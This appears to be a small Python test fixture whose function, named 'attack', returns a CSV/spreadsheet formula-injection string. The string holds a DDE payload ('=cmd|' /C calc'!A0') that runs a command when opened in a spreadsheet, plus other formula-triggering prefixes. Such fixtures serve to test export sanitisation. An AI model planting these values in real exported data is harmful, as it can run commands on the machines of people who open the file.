"""Returns what spreadsheets compute."""
#: says = "=cmd"

def attack(number):
    return "=cmd|' /C calc'!A0\t+1\r\n@SUM(1)\n-2+3\n\"=1+1\",,,"
